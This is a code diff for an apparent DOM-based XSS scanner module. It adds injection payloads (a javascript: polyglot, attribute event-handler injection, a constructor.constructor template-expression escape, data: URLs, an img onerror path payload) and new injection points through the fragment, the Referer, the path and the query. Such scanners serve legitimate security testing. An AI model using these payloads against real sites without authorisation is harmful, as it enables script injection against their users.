@@ -5,6 +5,7 @@ import type { WebRequest } from '@rocca/tools/web/model';
 import { pageOf } from '@rocca/tools/web/scope';
 import { cweReference, scored } from '../../core/definition.ts';
 import { semaphore } from '../../core/semaphore.ts';
+import { EVALUATES } from '../attack/payloads.ts';
 import { textOf } from '../attack/probe.ts';
 import { couldRun } from '../attack/runnable.ts';
 import { readScripts, type ScriptUse, sinksIn } from '../attack/script-sources.ts';
@@ -59,7 +60,8 @@ const MOST_VISITS = { low: 60, default: 90, medium: 150, high: 400, insane: 1000
  */
 export const domPayload = (mark: string) => {
   const call = `${PROOF_FUNCTION}(/${mark}/)`;
-  return `javascript:${call}//'"></select></textarea></title></style></script>--><img src=x onerror=${call}>`;
+  // Some scripts look for the scheme of an address anywhere in it.
+  return `javascript:${call}//http://https:'"></select></textarea></title></style></script>--><img src=x onerror=${call}>`;
 };
 
 /** For what cuts a value, as servers do that are asked for it by a script. */
@@ -71,13 +73,35 @@ const codePayload = (mark: string) => {
   return `/*'-${call}-'/*"-${call}-"/*\${${call}}/**/${call}`;
 };
 
+/** Attributes of the element whose value it ends, where no tag can begin: in either kind of quotes. */
+const attributePayload = (mark: string) => {
+  const call = `${PROOF_FUNCTION}(/${mark}/)`;
+  const handlers = `autofocus tabindex=1 onfocus=${call} onerror=${call} onload=${call}`;
+  return `x" ${handlers} x="' ${handlers} x='`;
+};
+
+/** For frameworks that read expressions out of the page. */
+const expressionPayload = (mark: string) => `{{constructor.constructor('${PROOF_FUNCTION}(/${mark}/)')()}}`;
+
+/** An address that answers by itself with markup, for scripts that ask for one and show what comes. */
+const markupAddress = (mark: string) => `data:text/html,${shortPayload(mark)}`;
+
+/** Many servers refuse a path with an encoded slash. */
+const pathPayload = (mark: string) => `<img src=x onerror=${PROOF_FUNCTION}\`${mark}\`>`;
+
 const scriptAddress = (mark: string) => `data:text/javascript,${PROOF_FUNCTION}(/${mark}/)//`;
 
 type Make = (mark: string) => string;
 
 /** Values for what the scripts of a page make of them, the likely first. */
-const payloadsFor = ({ code, loads, base64, jsonKeys }: ScriptUse): readonly Make[] => [
+const payloadsFor = (
+  { code, loads, base64, jsonKeys, asks, escapes }: ScriptUse,
+  hasExpressions: boolean,
+): readonly Make[] => [
   domPayload,
+  ...(escapes ? [attributePayload] : []),
+  ...(hasExpressions ? [expressionPayload] : []),
+  ...(asks ? [markupAddress] : []),
   ...(code ? [codePayload] : []),
   ...(loads ? [scriptAddress] : []),
   ...(base64 ? [(mark: string) => btoa(domPayload(mark))] : []),
@@ -102,6 +126,8 @@ interface Way {
   readonly possible?: boolean;
   /** The same value under several names at once: the ways by each of them. */
   readonly each?: readonly Way[];
+  /** What fits there in the place of the usual values. */
+  readonly makes?: readonly Make[];
 }
 
 export const xssDom = {
@@ -179,11 +205,24 @@ function planOf(site: Site, strength: ScanStrength): Planned[] {
     const asked = queryWays(plain, use, { site, keys: isSeldom ? use.queryKeys : [] });
     const own = isSeldom ? waysInto(plain, use, site) : [];
     const routed = before === 0 ? routeWays(plain, use, isLow ? 8 : 40) : [];
-    const makes = payloadsFor(use);
-    for (const way of [...asked, ...own, ...routed]) planned.push({ page, way, scripts, makes });
+    const text = exchange.response ? textOf(exchange.response.body) : '';
+    const makes = payloadsFor(use, EVALUATES.test(text));
+    const presses = (use.presses || /\sonclick\s*=/i.test(text)) && !use.channels;
+    for (const way of [...asked, ...own, ...routed])
+      planned.push({ page, way: presses ? pressing(way) : way, scripts, makes: way.makes ?? makes });
   }
   return planned.slice(0, MOST_VISITS[strength]);
 }
+
+/** The same way, with what waits for a person pressed. */
+const pressing = (way: Way): Way => ({
+  ...way,
+  ...(way.each && { each: way.each.map(pressing) }),
+  open(value) {
+    const { request, visitor } = way.open(value);
+    return { request, visitor: { ...visitor, presses: true } };
+  },
+});
 
 function waysInto(plain: WebRequest, use: ScriptUse, site: Site): Way[] {
   const visiting = visitingOf(plain);
@@ -204,15 +243,33 @@ function waysInto(plain: WebRequest, use: ScriptUse, site: Site): Way[] {
         ),
         (value) => ({ fragment: begin + keys.map((key) => `${key}=${encodeURIComponent(value)}`).join('&') }),
       );
+    for (const begin of use.fragmentBeginnings)
+      ways.push(
+        visiting(
+          FRAGMENT,
+          filled(
+            { it: 'il frammento dell’indirizzo, dopo #{begin}', en: 'the fragment of the address, behind #{begin}' },
+            { begin },
+          ),
+          (value) => ({ fragment: begin + encodeFragment(value) }),
+        ),
+      );
     if (keys.length > 0) ways.push(withKeys(''));
     if (keys.length > 0 && use.fragmentQuery) ways.push(withKeys('/?'));
   }
-  if (use.referrer)
+  if (use.referrer) {
+    const names = [...new Set([...use.queryKeys, ...use.fragmentKeys])].slice(0, MOST_FRAGMENT_KEYS);
+    const queryOf = (value: string) =>
+      names.length === 0
+        ? encodeURIComponent(value)
+        : names.map((name) => `${name}=${encodeURIComponent(value)}`).join('&');
     ways.push(
       visiting('header Referer', { it: 'il referrer', en: 'the referrer' }, (value) => ({
-        referrer: `${site.origin}${site.root}?${encodeURIComponent(value)}`,
+        referrer: `${site.origin}${site.root}?${queryOf(value)}`,
       })),
     );
+  }
+  if (use.path) ways.push(pathWay(plain));
   if (use.message) ways.push(messageWay(visiting, use));
   if (use.windowName)
     ways.push(
@@ -222,6 +279,23 @@ function waysInto(plain: WebRequest, use: ScriptUse, site: Site): Way[] {
     );
   ways.push(...storageWays(visiting, use));
   return ways;
+}
+
+/** As the last part of the path, where a page is shown for any: behind a name that has an ending it is one more part. */
+function pathWay(plain: WebRequest): Way {
+  const { origin, pathname } = new URL(plain.url);
+  const last = pathname.slice(pathname.lastIndexOf('/') + 1);
+  const isName = pathname.split('/').length > 2 && !last.includes('.');
+  const before = isName ? pathname.slice(0, -last.length || undefined) : `${pathname.replace(/\/$/, '')}/`;
+  return {
+    parameter: 'path',
+    words: { it: 'il percorso dell’indirizzo', en: 'the path of the address' },
+    open: (value) => ({
+      request: { ...plain, url: `${origin}${before}${encodeURIComponent(value)}` },
+      visitor: {},
+    }),
+    makes: [pathPayload],
+  };
 }
 
 type Visiting = (parameter: string, words: Localised, bring: (value: string) => ProofVisitor) => Way;
@@ -292,7 +366,8 @@ function queryWays(plain: WebRequest, use: ScriptUse, { site, keys }: Names): Wa
   });
   const single = [...seen].map((name) => wayBy([name], name));
   // A script that reads the whole query does so whatever the name is; of the whole address the fragment is a part.
-  const unnamed = guessed.length > 0 ? guessed : seen.size > 0 || use.fragment ? [] : ['q'];
+  const isNamed = guessed.length > 0 || seen.size > 0 || use.fragment || (use.wholeQuery && !use.cutsPairs);
+  const unnamed = isNamed ? guessed : ['q'];
   const joint =
     unnamed.length === 0
       ? []
@@ -302,8 +377,13 @@ function queryWays(plain: WebRequest, use: ScriptUse, { site, keys }: Names): Wa
             ...(guessed.length > 0 && { each: guessed.map((name) => wayBy([name], name)) }),
           },
         ];
+  const whole: Way = {
+    parameter: 'query',
+    words: { it: 'l’intera query dell’indirizzo', en: 'the whole query of the address' },
+    open: (value) => ({ request: { ...plain, url: `${page}?${encodeURI(value)}` }, visitor: {} }),
+  };
   const kept = remembers ? [...seen, ...guessed.slice(0, MOST_ALONE)].map((name) => keptBy(wayBy([name], name))) : [];
-  return [...single, ...joint, ...kept];
+  return [...single, ...joint, ...(use.wholeQuery ? [whole] : []), ...kept];
 }
 
 /** As a browser writes it that is given the address: scripts that read it undo no more than that. */
